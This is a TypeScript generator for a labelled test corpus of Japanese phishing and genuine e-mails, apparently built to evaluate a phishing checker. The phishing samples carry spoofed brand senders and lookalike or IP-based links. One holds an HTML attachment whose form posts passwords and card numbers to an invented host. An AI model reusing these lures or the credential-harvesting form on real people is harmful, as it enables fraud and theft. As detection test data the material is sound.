// Generates the raw RFC 5322 test e-mails of the checker corpus (eval/checker/corpus/eml/*.eml) and
// labels.json. Run once: `npx tsx eval/checker/corpus/eml/make-eml.ts`. The generated files are kept in
// the repository, so the checker is evaluated against fixed bytes (ISO-2022-JP, Shift_JIS, base64, QP).
// Every message is written by us for testing; all links point to invented hosts or to official pages.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import Encoding from 'encoding-japanese';

const OUT_DIR = dirname(fileURLToPath(import.meta.url));
const CRLF = '\r\n';

type Charset = 'iso-2022-jp' | 'shift_jis' | 'utf-8';

function toBytes(text: string, charset: Charset): Buffer {
  if (charset === 'utf-8') return Buffer.from(text, 'utf8');
  const to = charset === 'iso-2022-jp' ? 'JIS' : 'SJIS';
  const codes = Encoding.convert(Encoding.stringToCode(text), { to, from: 'UNICODE', type: 'array' });
  const back = Encoding.codeToString(Encoding.convert(codes, { to: 'UNICODE', from: to, type: 'array' }));
  // A character outside JIS X 0208 would silently become '?'; refuse instead of emitting a broken sample.
  if (back !== text) throw new Error(`text does not round-trip through ${charset}: ${text.slice(0, 40)}`);
  return Buffer.from(codes);
}

/** RFC 2047 B-encoded words, each one self-contained (JIS words end in ASCII mode). */
function encodedWords(text: string, charset: Charset): string {
  if (/^[\x20-\x7e]*$/.test(text)) return text;
  const chars = Array.from(text);
  const words: string[] = [];
  for (let i = 0; i < chars.length; i += 10) {
    const chunk = chars.slice(i, i + 10).join('');
    const label = charset === 'iso-2022-jp' ? 'ISO-2022-JP' : charset === 'shift_jis' ? 'Shift_JIS' : 'UTF-8';
    words.push(`=?${label}?B?${toBytes(chunk, charset).toString('base64')}?=`);
  }
  return words.join(`${CRLF} `);
}

function mailbox(name: string | null, address: string, charset: Charset): string {
  return name === null ? `<${address}>` : `${encodedWords(name, charset)} <${address}>`;
}

function base64Lines(bytes: Buffer): string {
  const b64 = bytes.toString('base64');
  const lines: string[] = [];
  for (let i = 0; i < b64.length; i += 76) lines.push(b64.slice(i, i + 76));
  return lines.join(CRLF);
}

function quotedPrintable(text: string): string {
  const out: string[] = [];
  for (const line of text.split('\n')) {
    const bytes = Buffer.from(line, 'utf8');
    let cur = '';
    bytes.forEach((b, idx) => {
      const last = idx === bytes.length - 1;
      const plain = (b >= 33 && b <= 126 && b !== 61) || ((b === 32 || b === 9) && !last);
      const piece = plain ? String.fromCharCode(b) : `=${b.toString(16).toUpperCase().padStart(2, '0')}`;
      if (cur.length + piece.length > 75) {
        out.push(`${cur}=`);
        cur = '';
      }
      cur += piece;
    });
    out.push(cur);
  }
  return out.join(CRLF);
}

type Part = { headers: string[]; body: Buffer };

function textPart(
  text: string,
  charset: Charset,
  cte: '7bit' | '8bit' | 'base64' | 'quoted-printable',
  subtype = 'plain',
): Part {
  const ctype = `text/${subtype}; charset=${charset === 'iso-2022-jp' ? 'ISO-2022-JP' : charset === 'shift_jis' ? 'Shift_JIS' : 'UTF-8'}`;
  const crlfText = text.replace(/\r?\n/g, CRLF);
  let body: Buffer;
  if (cte === 'base64') body = Buffer.from(base64Lines(toBytes(text, charset)), 'latin1');
  else if (cte === 'quoted-printable') body = Buffer.from(quotedPrintable(text), 'latin1');
  else body = toBytes(crlfText, charset);
  return { headers: [`Content-Type: ${ctype}`, `Content-Transfer-Encoding: ${cte}`], body };
}

function attachmentPart(filename: string, mime: string, content: Buffer): Part {
  return {
    headers: [
      `Content-Type: ${mime}; name="${filename}"`,
      `Content-Disposition: attachment; filename="${filename}"`,
      'Content-Transfer-Encoding: base64',
    ],
    body: Buffer.from(base64Lines(content), 'latin1'),
  };
}

function multipart(kind: 'alternative' | 'mixed', boundary: string, parts: Part[]): Part {
  const chunks: Buffer[] = [Buffer.from(`This is a multi-part message in MIME format.${CRLF}`, 'latin1')];
  for (const p of parts) {
    chunks.push(Buffer.from(`${CRLF}--${boundary}${CRLF}${p.headers.join(CRLF)}${CRLF}${CRLF}`, 'latin1'));
    chunks.push(p.body);
  }
  chunks.push(Buffer.from(`${CRLF}--${boundary}--${CRLF}`, 'latin1'));
  return {
    headers: [`Content-Type: multipart/${kind}; boundary="${boundary}"`],
    body: Buffer.concat(chunks),
  };
}

// Minimal "stored" ZIP (no compression) so the .zip attachment is a well-formed archive.
function crc32(buf: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of buf) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function storedZip(name: string, data: Buffer): Buffer {
  const fname = Buffer.from(name, 'latin1');
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt16LE(0, 6);
  local.writeUInt16LE(0, 8);
  local.writeUInt16LE(0, 10);
  local.writeUInt16LE(0x5b21, 12);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fname.length, 26);
  local.writeUInt16LE(0, 28);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt16LE(0, 8);
  central.writeUInt16LE(0, 10);
  central.writeUInt16LE(0, 12);
  central.writeUInt16LE(0x5b21, 14);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fname.length, 28);
  central.writeUInt32LE(0, 42);
  const localLen = local.length + fname.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fname.length, 12);
  end.writeUInt32LE(localLen, 16);
  return Buffer.concat([local, fname, data, central, fname, end]);
}

type Mail = {
  file: string;
  label: 'phishing' | 'genuine';
  brand: string;
  note: string;
  trace: string[]; // Return-Path, Received, Authentication-Results … (already formatted)
  fromName: string | null;
  from: string;
  to: string;
  replyTo?: string;
  subject: string;
  date: string;
  messageId: string;
  headerCharset: Charset;
  body: Part;
};

function render(m: Mail): Buffer {
  const headers = [
    ...m.trace,
    `From: ${mailbox(m.fromName, m.from, m.headerCharset)}`,
    `To: ${m.to}`,
    ...(m.replyTo ? [`Reply-To: ${m.replyTo}`] : []),
    `Subject: ${encodedWords(m.subject, m.headerCharset)}`,
    `Date: ${m.date}`,
    `Message-ID: <${m.messageId}>`,
    'MIME-Version: 1.0',
    ...m.body.headers,
  ];
  return Buffer.concat([
    Buffer.from(headers.join(CRLF) + CRLF + CRLF, 'latin1'),
    m.body.body,
    Buffer.from(CRLF),
  ]);
}

function html(lines: string[]): string {
  return `<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>\n${lines.join('\n')}\n</body></html>`;
}

const mails: Mail[] = [
  // ---------------- phishing ----------------
  {
    file: 'ph01-docomo-kessai-jis.eml',
    label: 'phishing',
    brand: 'docomo',
    note: 'キャリア決済カード不正アクセス型。From は docomo.ne.jp を詐称(spf=fail, dmarc=fail)、Return-Path は別ドメイン。リンクは docomo.ne.jp をサブドメインに入れた secure-login.top。ISO-2022-JP 7bit',
    trace: [
      'Return-Path: <bounce-7731@mx3.kessai-alert.top>',
      'Received: from mx3.kessai-alert.top (unknown [103.215.77.41])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk2pQ1Hz9z8;',
      '\tSat, 14 Nov 2026 23:41:07 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=fail (domain of docomo.ne.jp does not designate 103.215.77.41 as permitted sender) smtp.mailfrom=bounce-7731@mx3.kessai-alert.top smtp.helo=mx3.kessai-alert.top;',
      '\tdkim=none;',
      '\tdmarc=fail (p=REJECT) header.from=docomo.ne.jp',
    ],
    fromName: 'NTTドコモ',
    from: 'info@docomo.ne.jp',
    to: 'user@mail.example.jp',
    subject: '【重要】キャリア決済ご登録カードへの不正アクセス検知のお知らせ',
    date: 'Sat, 14 Nov 2026 23:40:52 +0900',
    messageId: '20261114234052.77A1C@mx3.kessai-alert.top',
    headerCharset: 'iso-2022-jp',
    body: textPart(
      [
        'ドコモをご利用のお客様',
        '',
        'いつもNTTドコモをご利用いただき、誠にありがとうございます。',
        '',
        'キャリア決済にご登録のクレジットカードが外部によるアクセスを検知しました。',
        'お客様の大切な資産を保護するため、カードのご利用を一時的に制限しております。',
        '',
        '下記URLより、ご本人様確認をお願いいたします。',
        'https://docomo.ne.jp.secure-login.top/kessai/confirm?uid=88120',
        '',
        '※24時間以内にご確認いただけない場合、ご利用停止となります。',
        '',
        '株式会社NTTドコモ',
      ].join('\n'),
      'iso-2022-jp',
      '7bit',
    ),
  },
  {
    file: 'ph02-au-html-mismatch.eml',
    label: 'phishing',
    brand: 'au',
    note: 'multipart/alternative。HTMLのリンク表示は https://www.au.com/my-au/ だが href は au-id-login.xyz。Reply-To も別ドメイン。dkim=none, dmarc=none',
    trace: [
      'Return-Path: <support@au-mobile-info.com>',
      'Received: from smtp.au-mobile-info.com (unknown [45.88.12.190])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4Xk3aB7c2Lz1;',
      '\tSun, 15 Nov 2026 02:13:44 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=softfail smtp.mailfrom=support@au-mobile-info.com;',
      '\tdkim=none;',
      '\tdmarc=none header.from=au-mobile-info.com',
    ],
    fromName: 'au お客さまセンター',
    from: 'support@au-mobile-info.com',
    to: 'user@mail.example.jp',
    replyTo: 'au-center-reply@kaitou-mail.net',
    subject: '【au】au IDのご利用制限について',
    date: 'Sun, 15 Nov 2026 02:13:30 +0900',
    messageId: 'b1c93f0e-2a77-4e1c-9d10-5f0e2c8a9b11@au-mobile-info.com',
    headerCharset: 'utf-8',
    body: multipart('alternative', '----=_Part_20261115_0213_8812', [
      textPart(
        [
          'auをご利用のお客さま',
          '',
          'お客さまのau IDに不正なログインの試みが確認されたため、ご利用を一時的に制限しております。',
          '以下のMy auからログインし、ご本人確認を完了してください。',
          '',
          'https://www.au.com/my-au/',
          '',
          'KDDI株式会社',
        ].join('\n'),
        'utf-8',
        'base64',
      ),
      textPart(
        html([
          '<p>auをご利用のお客さま</p>',
          '<p>お客さまのau IDに不正なログインの試みが確認されたため、ご利用を一時的に制限しております。<br>以下のMy auからログインし、ご本人確認を完了してください。</p>',
          '<p><a href="https://au-id-login.xyz/auth/?c=JP7712">https://www.au.com/my-au/</a></p>',
          '<p>KDDI株式会社</p>',
        ]),
        'utf-8',
        'base64',
        'html',
      ),
    ]),
  },
  {
    file: 'ph03-smbc-card-qp.eml',
    label: 'phishing',
    brand: 'smbc_card',
    note: '差出人・リンクとも smbc-card.co(公式 smbc-card.com のTLD違い)。spf/dkim/dmarc すべて fail。UTF-8 quoted-printable',
    trace: [
      'Return-Path: <vpass@smbc-card.co>',
      'Received: from vps-22871.hostnet.example (unknown [193.42.33.71])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk4Qw2vN8z3;',
      '\tSun, 15 Nov 2026 09:02:11 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=fail smtp.mailfrom=vpass@smbc-card.co;',
      '\tdkim=fail (signature verification failed) header.d=smbc-card.co;',
      '\tdmarc=fail header.from=smbc-card.co',
    ],
    fromName: '三井住友カード',
    from: 'vpass@smbc-card.co',
    to: 'user@mail.example.jp',
    subject: '【三井住友カード】ご利用確認のお願い',
    date: 'Sun, 15 Nov 2026 09:01:58 +0900',
    messageId: '8f2a1c55e0.vpass@smbc-card.co',
    headerCharset: 'utf-8',
    body: textPart(
      [
        '三井住友カードをご利用のお客様',
        '',
        'お客様のカードで、第三者による不正利用の可能性があるお取引を検知いたしました。',
        'つきましては、カードのご利用を一時的に制限させていただいております。',
        '',
        '■ご利用確認はこちら',
        'https://www.smbc-card.co/mem/kakunin/login.jsp?id=55310',
        '',
        'ご回答いただけない場合、カードのご利用停止が継続されます。',
        '',
        '三井住友カード株式会社',
      ].join('\n'),
      'utf-8',
      'quoted-printable',
    ),
  },
  {
    file: 'ph04-rakuten-card-sjis.eml',
    label: 'phishing',
    brand: 'rakuten_card',
    note: 'From は公式送信ドメイン mail.rakuten-card.co.jp を詐称(spf=fail, dmarc=fail)、Return-Path は別ドメイン。リンクは rakuten-card.co.jp をサブドメインにした e-navi-kakunin.icu。Shift_JIS 8bit',
    trace: [
      'Return-Path: <mailer@k2.cardinfo-send.cn>',
      'Received: from k2.cardinfo-send.cn (unknown [101.36.118.5])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk5Bn6pRtz2;',
      '\tSun, 15 Nov 2026 11:25:40 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=fail smtp.mailfrom=mailer@k2.cardinfo-send.cn;',
      '\tdkim=none;',
      '\tdmarc=fail (p=REJECT) header.from=mail.rakuten-card.co.jp',
    ],
    fromName: '楽天カード',
    from: 'info@mail.rakuten-card.co.jp',
    to: 'user@mail.example.jp',
    subject: '【楽天カード】カードご利用確認のお願い',
    date: 'Sun, 15 Nov 2026 11:25:31 +0900',
    messageId: '20261115112531.3391@k2.cardinfo-send.cn',
    headerCharset: 'shift_jis',
    body: textPart(
      [
        '楽天カード会員様',
        '',
        'いつも楽天カードをご利用いただき、誠にありがとうございます。',
        'お客様のカードにおいて、普段と異なるご利用が確認されました。',
        '',
        'ご本人様のご利用であるかを確認するため、楽天e-NAVIにログインのうえ、',
        'カード情報の確認をお願いいたします。',
        '',
        'https://rakuten-card.co.jp.e-navi-kakunin.icu/e-navi/login',
        '',
        '楽天カード株式会社',
      ].join('\n'),
      'shift_jis',
      '8bit',
    ),
  },
  {
    file: 'ph05-softbank-html-attachment.eml',
    label: 'phishing',
    brand: 'softbank',
    note: '添付HTMLファイル(meisai_202611.html)を開かせ、IDとパスワード・カード情報を外部へ送信させるフォーム。差出人 softbank-info.co は非公式。本文 ISO-2022-JP',
    trace: [
      'Return-Path: <info@softbank-info.co>',
      'Received: from mail.softbank-info.co (unknown [62.204.41.18])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk6Hm0sPqz5;',
      '\tSun, 15 Nov 2026 13:48:02 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=info@softbank-info.co;',
      '\tdkim=none;',
      '\tdmarc=none header.from=softbank-info.co',
    ],
    fromName: 'ソフトバンク',
    from: 'info@softbank-info.co',
    to: 'user@mail.example.jp',
    subject: 'まとめて支払い ご利用明細のお知らせ',
    date: 'Sun, 15 Nov 2026 13:47:49 +0900',
    messageId: 'meisai.20261115134749@softbank-info.co',
    headerCharset: 'iso-2022-jp',
    body: multipart('mixed', '=_sbm_mixed_4a77c0e1', [
      textPart(
        [
          'お客様',
          '',
          'ソフトバンクまとめて支払いの今月のご利用明細を添付いたします。',
          '身に覚えのないご利用がある場合は、添付ファイルを開き、',
          'My SoftBankのIDとパスワードを入力して取消手続きを行ってください。',
          '',
          'ソフトバンク株式会社',
        ].join('\n'),
        'iso-2022-jp',
        '7bit',
      ),
      attachmentPart(
        'meisai_202611.html',
        'text/html',
        Buffer.from(
          html([
            '<h1>My SoftBank ログイン</h1>',
            '<form method="post" action="https://sb-meisai-torikeshi.top/post.php">',
            '<p>携帯電話番号 <input name="tel"></p>',
            '<p>パスワード <input name="pw" type="password"></p>',
            '<p>カード番号 <input name="card"> 有効期限 <input name="exp"> セキュリティコード <input name="cvv"></p>',
            '<p><button type="submit">取消手続き</button></p>',
            '</form>',
          ]),
          'utf8',
        ),
      ),
    ]),
  },
  {
    file: 'ph06-amazon-zip.eml',
    label: 'phishing',
    brand: 'amazon_jp',
    note: 'ZIP添付(中身は .pdf.exe の二重拡張子。内容は無害なプレースホルダ)。差出人 amazon-co-jp-orders.com は非公式。dkim=fail, dmarc=fail',
    trace: [
      'Return-Path: <order@amazon-co-jp-orders.com>',
      'Received: from amazon-co-jp-orders.com (unknown [91.215.85.147])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk7Tr3kXyz4;',
      '\tSun, 15 Nov 2026 15:20:19 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=neutral smtp.mailfrom=order@amazon-co-jp-orders.com;',
      '\tdkim=fail header.d=amazon-co-jp-orders.com;',
      '\tdmarc=fail header.from=amazon-co-jp-orders.com',
    ],
    fromName: 'Amazon.co.jp',
    from: 'order@amazon-co-jp-orders.com',
    to: 'user@mail.example.jp',
    subject: 'ご注文の請求書(ご確認ください)',
    date: 'Sun, 15 Nov 2026 15:20:05 +0900',
    messageId: 'inv-503-2281449@amazon-co-jp-orders.com',
    headerCharset: 'utf-8',
    body: multipart('mixed', '----=_NextPart_000_0019_01DB3A2F.8C1E7A40', [
      textPart(
        [
          'Amazon.co.jpをご利用いただきありがとうございます。',
          '',
          'ご注文 #503-2281449-1107736 の請求書を添付いたしました。',
          'ご請求金額 58,960円 に心当たりがない場合は、添付ファイルを開いてキャンセル手続きを行ってください。',
          '',
          '添付ファイルのパスワード:1107',
          '',
          'Amazon.co.jp カスタマーサービス',
        ].join('\n'),
        'utf-8',
        'base64',
      ),
      attachmentPart(
        'seikyusho_503-2281449.zip',
        'application/zip',
        storedZip(
          'seikyusho_503-2281449.pdf.exe',
          Buffer.from('Inert placeholder written for the Mamori test corpus. Not a program.\r\n', 'latin1'),
        ),
      ),
    ]),
  },
  {
    file: 'ph07-mufg-bank-html-mismatch.eml',
    label: 'phishing',
    brand: 'mufg_bank',
    note: '取引制限型。HTMLのリンク表示は https://direct.bk.mufg.jp/ だが href は bk-mufg-direct.shop。Reply-To はフリーメール。dkim=fail, dmarc=fail。テキスト部は ISO-2022-JP',
    trace: [
      'Return-Path: <notice@bk-mufg-direct.shop>',
      'Received: from bk-mufg-direct.shop (unknown [185.244.30.12])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk8Gf5tBcz6;',
      '\tMon, 16 Nov 2026 07:55:33 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=fail smtp.mailfrom=notice@bk-mufg-direct.shop;',
      '\tdkim=fail header.d=bk-mufg-direct.shop;',
      '\tdmarc=fail header.from=bk-mufg-direct.shop',
    ],
    fromName: '三菱UFJ銀行',
    from: 'notice@bk-mufg-direct.shop',
    to: 'user@mail.example.jp',
    replyTo: 'mufg.kakunin.center2026@gmail.com',
    subject: '【三菱UFJ銀行】お取引制限のお知らせ',
    date: 'Mon, 16 Nov 2026 07:55:20 +0900',
    messageId: '5521.notice@bk-mufg-direct.shop',
    headerCharset: 'iso-2022-jp',
    body: multipart('alternative', 'mufg_alt_7f3e22', [
      textPart(
        [
          '三菱UFJ銀行をご利用のお客さま',
          '',
          'お客さまの口座において、不正利用の疑いがあるお取引が確認されたため、',
          'お取引を一時的に制限させていただいております。',
          '',
          '制限の解除をご希望の場合は、三菱UFJダイレクトにログインし、',
          'お客さま情報の確認を行ってください。',
          '',
          'https://direct.bk.mufg.jp/',
          '',
          '株式会社三菱UFJ銀行',
        ].join('\n'),
        'iso-2022-jp',
        '7bit',
      ),
      textPart(
        html([
          '<p>三菱UFJ銀行をご利用のお客さま</p>',
          '<p>お客さまの口座において、不正利用の疑いがあるお取引が確認されたため、お取引を一時的に制限させていただいております。</p>',
          '<p>制限の解除をご希望の場合は、三菱UFJダイレクトにログインし、お客さま情報の確認を行ってください。</p>',
          '<p><a href="http://bk-mufg-direct.shop/login/?s=8812">https://direct.bk.mufg.jp/</a></p>',
          '<p>株式会社三菱UFJ銀行</p>',
        ]),
        'utf-8',
        'quoted-printable',
        'html',
      ),
    ]),
  },
  {
    file: 'ph08-jcb-english-userinfo.eml',
    label: 'phishing',
    brand: 'jcb',
    note: 'English. From spoofs jcb.co.jp (spf=fail, dmarc=fail); the link https://www.jcb.co.jp@185.244.30.12/ really goes to an IP address (userinfo trick). Return-Path elsewhere',
    trace: [
      'Return-Path: <root@vps-1127.hostingserver.example>',
      'Received: from vps-1127.hostingserver.example (unknown [185.244.30.12])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4Xk9Zz8mQaz7;',
      '\tMon, 16 Nov 2026 10:02:45 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=fail smtp.mailfrom=root@vps-1127.hostingserver.example;',
      '\tdkim=none;',
      '\tdmarc=fail (p=QUARANTINE) header.from=jcb.co.jp',
    ],
    fromName: 'JCB Card Services',
    from: 'no-reply@jcb.co.jp',
    to: 'user@mail.example.jp',
    subject: 'Important: Your JCB card has been temporarily restricted',
    date: 'Mon, 16 Nov 2026 01:02:31 +0000',
    messageId: '1763254951.4412@vps-1127.hostingserver.example',
    headerCharset: 'utf-8',
    body: textPart(
      [
        'Dear JCB Cardmember,',
        '',
        'We have detected suspicious activity on your JCB card and have temporarily restricted its use.',
        '',
        'To lift the restriction, please sign in to MyJCB and confirm your card details',
        '(card number, expiry date and security code) within 24 hours:',
        '',
        'https://www.jcb.co.jp@185.244.30.12/myjcb/login',
        '',
        'If you fail to confirm, your card will be cancelled.',
        '',
        'JCB Co., Ltd.',
      ].join('\n'),
      'utf-8',
      '7bit',
    ),
  },
  {
    file: 'ph09-japanpost-html-mismatch.eml',
    label: 'phishing',
    brand: 'japan_post',
    note: '不在・再配達型。HTMLのリンク表示は https://www.post.japanpost.jp/ だが href は 10進数IPアドレス(http://3044460891/)。差出人 japanpost-redelivery.top は非公式。dmarc=fail',
    trace: [
      'Return-Path: <info@japanpost-redelivery.top>',
      'Received: from japanpost-redelivery.top (unknown [181.118.201.91])',
      '\tby mx.mail.example.jp (Postfix) with ESMTP id 4XkA2s1dFgz8;',
      '\tMon, 16 Nov 2026 12:30:07 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=softfail smtp.mailfrom=info@japanpost-redelivery.top;',
      '\tdkim=none;',
      '\tdmarc=fail header.from=japanpost-redelivery.top',
    ],
    fromName: '日本郵便',
    from: 'info@japanpost-redelivery.top',
    to: 'user@mail.example.jp',
    subject: '【日本郵便】お荷物のお届けについて',
    date: 'Mon, 16 Nov 2026 12:29:55 +0900',
    messageId: 'rd-20261116-7720@japanpost-redelivery.top',
    headerCharset: 'iso-2022-jp',
    body: multipart('alternative', '__jp_alt_b20f1c__', [
      textPart(
        [
          'ご不在のため、お荷物を持ち帰りました。',
          '保管期限内に、下記より再配達のお申し込みをお願いいたします。',
          '',
          'https://www.post.japanpost.jp/',
          '',
          '日本郵便株式会社',
        ].join('\n'),
        'iso-2022-jp',
        '7bit',
      ),
      textPart(
        html([
          '<p>ご不在のため、お荷物を持ち帰りました。<br>保管期限内に、下記より再配達のお申し込みをお願いいたします。</p>',
          '<p><a href="http://3044460891/saihaitatsu/">https://www.post.japanpost.jp/</a></p>',
          '<p>日本郵便株式会社</p>',
        ]),
        'utf-8',
        'base64',
        'html',
      ),
    ]),
  },
  // ---------------- genuine ----------------
  {
    file: 'gn01-docomo-account-lock-jis.eml',
    label: 'genuine',
    brand: 'docomo',
    note: '公式FAQ記載の送信元 spmodemsgr@wdy.docomo.ne.jp。spf/dkim/dmarc pass。リンクなし、自分で公式サイトを開くよう案内。ISO-2022-JP 7bit',
    trace: [
      'Return-Path: <spmodemsgr@wdy.docomo.ne.jp>',
      'Received: from wdy.docomo.ne.jp (wdy.docomo.ne.jp [203.138.181.10])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkB7p2gHjz9;',
      '\tSat, 14 Nov 2026 08:15:22 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=spmodemsgr@wdy.docomo.ne.jp;',
      '\tdkim=pass header.d=docomo.ne.jp;',
      '\tdmarc=pass header.from=wdy.docomo.ne.jp',
    ],
    fromName: 'NTTドコモ',
    from: 'spmodemsgr@wdy.docomo.ne.jp',
    to: 'user@mail.example.jp',
    subject: 'dアカウントのロックに関するお知らせ',
    date: 'Sat, 14 Nov 2026 08:15:10 +0900',
    messageId: '20261114081510.D11842@wdy.docomo.ne.jp',
    headerCharset: 'iso-2022-jp',
    body: textPart(
      [
        'dアカウントをご利用のお客さま',
        '',
        'いつもドコモをご利用いただきありがとうございます。',
        '',
        'お客さまのdアカウントで、パスワードの誤入力が一定回数を超えたため、',
        'dアカウントをロックしました。',
        '',
        'ご本人による操作の場合は、dアカウントのページからパスワードを再設定してください。',
        'お心当たりがない場合は、第三者によるログインの試みの可能性があります。',
        '',
        'このメールにはリンクを記載しておりません。',
        'ブックマークやMy docomoアプリから、ご自身でdアカウントのページを開いてください。',
        '',
        '株式会社NTTドコモ',
      ].join('\n'),
      'iso-2022-jp',
      '7bit',
    ),
  },
  {
    file: 'gn02-rakuten-card-bill-b64.eml',
    label: 'genuine',
    brand: 'rakuten_card',
    note: '公式送信ドメイン mail.rakuten-card.co.jp、Return-Path は公式の bounce.rakuten-card.co.jp。pass。リンクは rakuten-card.co.jp のみ。UTF-8 base64',
    trace: [
      'Return-Path: <bounce-a81c2@bounce.rakuten-card.co.jp>',
      'Received: from mta21.mail.rakuten-card.co.jp (mta21.mail.rakuten-card.co.jp [133.237.40.21])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkC1q4sLmz1;',
      '\tTue, 17 Nov 2026 10:00:12 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=bounce-a81c2@bounce.rakuten-card.co.jp;',
      '\tdkim=pass header.d=rakuten-card.co.jp;',
      '\tdmarc=pass header.from=mail.rakuten-card.co.jp',
    ],
    fromName: '楽天カード',
    from: 'info@mail.rakuten-card.co.jp',
    to: 'user@mail.example.jp',
    subject: '【楽天カード】ご請求金額確定のお知らせ',
    date: 'Tue, 17 Nov 2026 10:00:00 +0900',
    messageId: 'a81c2.20261117100000@mail.rakuten-card.co.jp',
    headerCharset: 'utf-8',
    body: textPart(
      [
        '楽天カード会員様',
        '',
        'いつも楽天カードをご利用いただき、誠にありがとうございます。',
        '2026年12月27日お支払い分のご請求金額が確定しました。',
        '',
        'ご請求金額・ご利用明細は、楽天e-NAVIまたは楽天カードアプリでご確認ください。',
        'https://www.rakuten-card.co.jp/e-navi/',
        '',
        '※楽天カードがメールでカード番号や暗証番号をお尋ねすることはありません。',
        '',
        '楽天カード株式会社',
      ].join('\n'),
      'utf-8',
      'base64',
    ),
  },
  {
    file: 'gn03-mizuho-transaction-qp.eml',
    label: 'genuine',
    brand: 'mizuho_bank',
    note: '公式記載の送信アドレス send_mail@e-mail.mizuhobank.co.jp。pass。リンクなし、公式番号 0120-324-358 のみ。UTF-8 quoted-printable',
    trace: [
      'Return-Path: <send_mail@e-mail.mizuhobank.co.jp>',
      'Received: from e-mail.mizuhobank.co.jp (e-mail.mizuhobank.co.jp [210.172.143.60])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkD5v7wNpz2;',
      '\tTue, 17 Nov 2026 09:12:40 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=send_mail@e-mail.mizuhobank.co.jp;',
      '\tdkim=pass header.d=mizuhobank.co.jp;',
      '\tdmarc=pass header.from=e-mail.mizuhobank.co.jp',
    ],
    fromName: 'みずほ銀行',
    from: 'send_mail@e-mail.mizuhobank.co.jp',
    to: 'user@mail.example.jp',
    subject: '【みずほ銀行】お取引受付のお知らせ',
    date: 'Tue, 17 Nov 2026 09:12:31 +0900',
    messageId: '20261117091231.55801@e-mail.mizuhobank.co.jp',
    headerCharset: 'utf-8',
    body: textPart(
      [
        'みずほダイレクトをご利用いただきありがとうございます。',
        '',
        '以下のお取引を受け付けました。',
        '',
        '受付日時:2026年11月17日 09:12',
        'お取引内容:振込',
        '金額:42,000円',
        '',
        'お取引結果は、みずほダイレクトアプリでご確認いただけます。',
        'お心当たりのない場合は、0120-324-358 までご連絡ください。',
        '',
        '株式会社みずほ銀行',
      ].join('\n'),
      'utf-8',
      'quoted-printable',
    ),
  },
  {
    file: 'gn04-amazon-order-html.eml',
    label: 'genuine',
    brand: 'amazon_jp',
    note: 'multipart/alternative。HTMLのリンク表示と href が一致し、どちらも amazon.co.jp。pass',
    trace: [
      'Return-Path: <20261117013355a9d1@bounces.amazon.co.jp>',
      'Received: from a27-12.smtp-out.amazonses.com (a27-12.smtp-out.amazonses.com [54.240.27.12])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkE8c0yQrz3;',
      '\tTue, 17 Nov 2026 10:33:58 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=20261117013355a9d1@bounces.amazon.co.jp;',
      '\tdkim=pass header.d=amazon.co.jp;',
      '\tdmarc=pass header.from=amazon.co.jp',
    ],
    fromName: 'Amazon.co.jp',
    from: 'auto-confirm@amazon.co.jp',
    to: 'user@mail.example.jp',
    subject: 'Amazon.co.jp ご注文の確認',
    date: 'Tue, 17 Nov 2026 01:33:55 +0000',
    messageId: '0106019a3f2c-ord-250-7719032@email.amazonses.com',
    headerCharset: 'utf-8',
    body: multipart('alternative', '----=_Part_1782231_99120.1763343235', [
      textPart(
        [
          'Amazon.co.jpをご利用いただき、ありがとうございます。',
          '',
          '注文番号:250-7719032-4481029',
          'お届け予定:2026年11月19日',
          '',
          'ご注文の状況は「注文履歴」でご確認いただけます。',
          'https://www.amazon.co.jp/gp/css/order-history',
          '',
          'Amazon.co.jp',
        ].join('\n'),
        'utf-8',
